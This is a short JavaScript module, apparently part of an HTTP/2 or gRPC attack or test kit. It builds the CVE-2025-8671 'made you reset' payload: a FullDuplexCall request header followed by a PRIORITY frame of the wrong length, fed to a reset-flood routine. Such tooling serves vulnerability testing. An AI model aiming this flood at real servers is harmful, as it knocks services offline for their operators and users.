import * as wire from '../http2/wire.js';
import { header } from './call.js';
import { resetFlood } from './reset-flood.js';

/** CVE-2025-8671: PRIORITY of a wrong length (RFC 9113 section 6.3). */
export const attack = resetFlood('made you reset: PRIORITY', (id) =>
  Buffer.concat([header(id, 'FullDuplexCall'), wire.frame(wire.PRIORITY, 0, id, Buffer.alloc(4))]),
);
